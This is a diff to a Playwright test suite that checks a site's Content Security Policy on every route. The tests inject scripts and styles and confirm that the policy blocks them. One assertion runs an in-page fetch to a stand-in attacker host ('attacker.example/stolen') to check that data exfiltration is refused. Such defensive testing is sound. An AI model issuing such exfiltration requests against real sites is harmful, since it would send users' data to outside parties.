@@ -1,6 +1,6 @@
 import { expect, test, type Page } from '@playwright/test';
 import { securityHeaders } from '../deploy/policy.ts';
-import { routes } from './support/routes.ts';
+import { everyPage, routes } from './support/routes.ts';
 
 const attacker = 'https://attacker.example';
 const note = (what: string) => `window.injected = [...(window.injected ?? []), '${what}']`;
@@ -58,42 +58,44 @@ const styled = (page: Page) =>
     ),
   );
 
-for (const path of [...routes, '/no-such-page']) {
-  test(`G8 ${path}: the policy refuses nothing of ours, and every script and style written into it`, async ({
-    page,
-  }) => {
-    const { refused, reached, injected } = await watch(page);
-    const response = await page.goto(path);
-    const headers = response?.headers() ?? {};
-    for (const [name, value] of securityHeaders) expect(headers[name.toLowerCase()], name).toBe(value);
-    expect(await refused()).toEqual([]);
+for (const { path, tag } of [...everyPage, { path: '/no-such-page', tag: [] }]) {
+  test(
+    `G8 ${path}: the policy refuses nothing of ours, and every script and style written into it`,
+    { tag },
+    async ({ page }) => {
+      const { refused, reached, injected } = await watch(page);
+      const response = await page.goto(path);
+      const headers = response?.headers() ?? {};
+      for (const [name, value] of securityHeaders) expect(headers[name.toLowerCase()], name).toBe(value);
+      expect(await refused()).toEqual([]);
 
-    await inject(page, path);
-    await expect
-      .poll(refused)
-      .toEqual(
-        expect.arrayContaining([
-          'script-src-elem',
-          'script-src-attr',
-          'style-src-elem',
-          'style-src-attr',
-          'img-src',
-          'frame-src',
-          'base-uri',
-        ]),
-      );
-    expect(await injected()).toBeUndefined();
-    expect(await styled(page)).toEqual(['', '']);
-    expect(
-      await page.evaluate(() =>
-        fetch('https://attacker.example/stolen').then(
-          () => 'sent',
-          () => 'refused',
+      await inject(page, path);
+      await expect
+        .poll(refused)
+        .toEqual(
+          expect.arrayContaining([
+            'script-src-elem',
+            'script-src-attr',
+            'style-src-elem',
+            'style-src-attr',
+            'img-src',
+            'frame-src',
+            'base-uri',
+          ]),
+        );
+      expect(await injected()).toBeUndefined();
+      expect(await styled(page)).toEqual(['', '']);
+      expect(
+        await page.evaluate(() =>
+          fetch('https://attacker.example/stolen').then(
+            () => 'sent',
+            () => 'refused',
+          ),
         ),
-      ),
-    ).toBe('refused');
-    expect(reached).toEqual([]);
-  });
+      ).toBe('refused');
+      expect(reached).toEqual([]);
+    },
+  );
 }
 
 test('G8 without the policy of the page all of that runs, so the tests above can fail', async ({ page }) => {
